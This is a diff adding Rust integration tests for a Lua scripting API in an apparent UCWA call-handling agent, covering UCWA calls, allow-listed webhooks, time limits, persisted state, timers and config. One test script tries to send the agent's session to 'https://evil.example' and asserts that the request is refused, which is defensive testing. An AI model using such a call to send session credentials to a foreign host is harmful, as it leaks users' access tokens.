@@ -1,0 +1,206 @@
+//! The `agent` API from Lua, with real HTTP: the simulator for `agent.ucwa`, a local webhook
+//! receiver for `agent.http`, real files and the real database for `agent.state`.
+
+mod common;
+
+use axum::extract::State;
+use axum::http::HeaderMap;
+use common::*;
+use tokio::sync::mpsc;
+use ucwa_agent::script::ScriptOutput;
+
+/// A webhook receiver on loopback: every request's method, path, content type and body.
+async fn webhook_receiver() -> (String, mpsc::UnboundedReceiver<(String, String, String, String)>) {
+    let (tx, rx) = mpsc::unbounded_channel();
+    let app = axum::Router::new().fallback(
+        |State(tx): State<mpsc::UnboundedSender<(String, String, String, String)>>, headers: HeaderMap, req: axum::extract::Request| async move {
+            let method = req.method().to_string();
+            let path = req.uri().path().to_string();
+            let ct = headers.get("content-type").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
+            let body = axum::body::to_bytes(req.into_body(), 1 << 20).await.unwrap();
+            let _ = tx.send((method, path, ct, String::from_utf8_lossy(&body).into_owned()));
+            "{\"ok\":true}"
+        },
+    );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app.with_state(tx)).await.unwrap() });
+    (format!("127.0.0.1:{}", addr.port()), rx)
+}
+
+#[tokio::test]
+async fn ucwa_calls_use_the_agents_session_and_stay_on_the_pool() {
+    let sim = start_sim(sim_config()).await;
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "reader.lua",
+        r#"
+agent.on("audioVideoSession", "added", function(e)
+  local r = agent.ucwa.get(e.href)
+  agent.log.info("session " .. r.status .. " " .. r.body.state .. " " .. r.headers["content-type"])
+  local conv = agent.ucwa.get(e.conversation)
+  agent.log.info("conversation " .. conv.body.state)
+  local ok, err = pcall(agent.ucwa.get, "https://evil.example/ucwa/oauth/v1/applications")
+  agent.log.info(tostring(ok) .. " " .. err)
+  local missing = agent.ucwa.get("/ucwa/oauth/v1/applications/1/nothing")
+  agent.log.info("missing " .. missing.status)
+end)
+"#,
+    );
+    let mut agent = start_agent(&sim, &config_text(&sim, dir.path(), "")).await;
+    sim.start_call(answered_call()).unwrap();
+    let lines = agent.messages("reader", 4).await;
+    assert_eq!(lines[0], "session 200 Establishing application/json; charset=utf-8");
+    assert_eq!(lines[1], "conversation Connected");
+    assert!(lines[2].starts_with("false ") && lines[2].contains("refused to send the session to https://evil.example"), "{}", lines[2]);
+    assert_eq!(lines[3], "missing 404");
+    agent.stop().await;
+}
+
+#[tokio::test]
+async fn http_requests_reach_only_allowed_hosts() {
+    let sim = start_sim(sim_config()).await;
+    let (host, mut hooks) = webhook_receiver().await;
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "hook.lua",
+        &format!(
+            r#"
+agent.on("audioVideoInvitation", "started", function(e)
+  local r = agent.http.request{{method = "POST", url = "http://{host}/notify", body = {{text = "call from " .. e.resource._embedded.from.uri}}}}
+  agent.log.info("webhook " .. r.status .. " " .. r.body)
+  local ok, err = pcall(agent.http.request, {{url = "http://127.0.0.2:9/x"}})
+  agent.log.info(tostring(ok) .. " " .. err)
+end)
+"#
+        ),
+    );
+    let extra = format!("http_allow = [\"{host}\"]");
+    let mut agent = start_agent(&sim, &config_text(&sim, dir.path(), &extra)).await;
+    sim.start_call(ucwa_agent::sim::CallSpec { remote: Some("sip:ann@fabrikam.com".into()), ..answered_call() }).unwrap();
+    let lines = agent.messages("hook", 2).await;
+    assert_eq!(lines[0], "webhook 200 {\"ok\":true}");
+    assert!(lines[1].starts_with("false ") && lines[1].contains("127.0.0.2 is not in scripts.http_allow"), "{}", lines[1]);
+    let (method, path, ct, body) = hooks.recv().await.unwrap();
+    assert_eq!((method.as_str(), path.as_str(), ct.as_str()), ("POST", "/notify", "application/json"));
+    assert_eq!(body, "{\"text\":\"call from sip:ann@fabrikam.com\"}");
+    agent.stop().await;
+}
+
+#[tokio::test]
+async fn a_hanging_http_call_is_stopped_by_the_handler_time_limit() {
+    let sim = start_sim(sim_config()).await;
+    // A server that accepts and never answers.
+    let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = silent.local_addr().unwrap().port();
+    tokio::spawn(async move {
+        let mut held = Vec::new();
+        while let Ok((s, _)) = silent.accept().await {
+            held.push(s);
+        }
+    });
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "hang.lua",
+        &format!(
+            "agent.on('audioVideoSession', 'added', function(e) agent.http.request{{url = 'http://127.0.0.1:{port}/'}} end)\n\
+             agent.on('audioVideoSession', 'updated', function(e) agent.log.info('next event runs') end)\n"
+        ),
+    );
+    write(dir.path(), "other.lua", "agent.on('audioVideoSession', 'added', function(e) agent.log.info('other runs') end)\n");
+    let extra = format!("http_allow = [\"127.0.0.1:{port}\"]\nhandler_timeout_ms = 300");
+    let mut agent = start_agent(&sim, &config_text(&sim, dir.path(), &extra)).await;
+    sim.start_call(answered_call()).unwrap();
+    assert_eq!(agent.messages("other", 1).await, ["other runs"]);
+    let e = agent.expect("the time limit", |o| matches!(o, ScriptOutput::HandlerError { script, .. } if script == "hang")).await;
+    let ScriptOutput::HandlerError { error, .. } = e else { unreachable!() };
+    // Whichever fires first, the handler's time limit or the request's (it defaults to the same).
+    assert!(error.contains("time limit exceeded") || error.contains("timed out"), "{error}");
+    assert_eq!(agent.messages("hang", 1).await, ["next event runs"]);
+    agent.stop().await;
+}
+
+const COUNTER: &str = r#"
+agent.on("audioVideoSession", "added", function(e)
+  agent.state.calls = (agent.state.calls or 0) + 1
+  agent.state.last = { href = e.href, tags = agent.json.array({}) }
+  agent.log.info("calls " .. agent.state.calls .. " v" .. agent.script.version)
+end)
+"#;
+
+#[tokio::test]
+async fn state_survives_reloads_and_restarts() {
+    let sim = start_sim(sim_config()).await;
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "counter.lua", COUNTER);
+    let config = config_text(&sim, dir.path(), "reload_debounce_ms = 20");
+    let mut agent = start_agent(&sim, &config).await;
+    for _ in 0..2 {
+        let c = sim.start_call(answered_call()).unwrap();
+        agent.messages("counter", 1).await;
+        sim.end_call(c);
+    }
+    write(dir.path(), "counter.lua", &format!("{COUNTER}\n-- edited\n"));
+    agent.expect("reload", |o| matches!(o, ScriptOutput::Loaded { version: 2, .. })).await;
+    let c = sim.start_call(answered_call()).unwrap();
+    assert_eq!(agent.messages("counter", 1).await, ["calls 3 v2"]);
+    sim.end_call(c);
+    agent.stop().await;
+
+    let mut agent = start_agent(&sim, &config).await;
+    let c = sim.start_call(answered_call()).unwrap();
+    assert_eq!(agent.messages("counter", 1).await, ["calls 4 v1"]);
+    sim.end_call(c);
+    agent.stop().await;
+    let db = rusqlite::Connection::open(dir.path().join(".state/agent.db")).unwrap();
+    let json: String = db.query_row("SELECT json FROM script_state WHERE script = 'counter'", [], |r| r.get(0)).unwrap();
+    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert_eq!(v["calls"], 4);
+    assert_eq!(v["last"]["tags"], serde_json::json!([]), "empty arrays stay arrays: {json}");
+}
+
+#[tokio::test]
+async fn timers_fire_cancel_and_do_not_double_on_reload() {
+    let sim = start_sim(sim_config()).await;
+    let dir = tempfile::tempdir().unwrap();
+    let script = |n: usize| {
+        format!(
+            "local ticks = 0\nlocal t\nt = agent.every(20, function()\n  ticks = ticks + 1\n  agent.log.info('v' .. agent.script.version .. ' tick')\n  if ticks == 3 then t:cancel() agent.after(10, function() agent.log.info('v' .. agent.script.version .. ' done') end) end\nend)\n-- save {n}\n"
+        )
+    };
+    write(dir.path(), "timer.lua", &script(0));
+    let mut agent = start_agent(&sim, &config_text(&sim, dir.path(), "reload_debounce_ms = 10")).await;
+    assert_eq!(agent.messages("timer", 4).await, ["v1 tick", "v1 tick", "v1 tick", "v1 done"]);
+    for n in 1..=10 {
+        write(dir.path(), "timer.lua", &script(n));
+        let want = n as u64 + 1;
+        agent.expect("reload", |o| matches!(o, ScriptOutput::Loaded { version, .. } if *version == want)).await;
+    }
+    // Only the last version's timers run: ticks of older versions would show other numbers.
+    let lines = agent.messages("timer", 4).await;
+    assert_eq!(lines, ["v11 tick", "v11 tick", "v11 tick", "v11 done"]);
+    agent.stop().await;
+}
+
+#[tokio::test]
+async fn config_tables_and_pausing_after_repeated_failures() {
+    let sim = start_sim(sim_config()).await;
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "cfg.lua", "agent.on('audioVideoSession', 'added', function(e) agent.log.info(agent.config.greeting .. ' ' .. #agent.config.rooms) end)\n");
+    write(dir.path(), "flaky.lua", "agent.on('*', function(e) error('always') end)\n");
+    let extra = "max_consecutive_failures = 3\nreload_debounce_ms = 20\n[scripts.config.cfg]\ngreeting = \"hello\"\nrooms = [\"a\", \"b\"]";
+    let mut agent = start_agent(&sim, &config_text(&sim, dir.path(), extra)).await;
+    // signedIn and makeMeAvailable's events fail three times in a row.
+    agent.expect("pause", |o| matches!(o, ScriptOutput::Paused { script, failures: 3 } if script == "flaky")).await;
+    let c = sim.start_call(answered_call()).unwrap();
+    assert_eq!(agent.messages("cfg", 1).await, ["hello 2"]);
+    sim.end_call(c);
+    write(dir.path(), "flaky.lua", "agent.on('audioVideoSession', 'added', function(e) agent.log.info('fixed') end)\n");
+    agent.expect("reload", |o| matches!(o, ScriptOutput::Loaded { script, .. } if script == "flaky")).await;
+    sim.start_call(answered_call()).unwrap();
+    assert_eq!(agent.messages("flaky", 1).await, ["fixed"]);
+    agent.stop().await;
+}
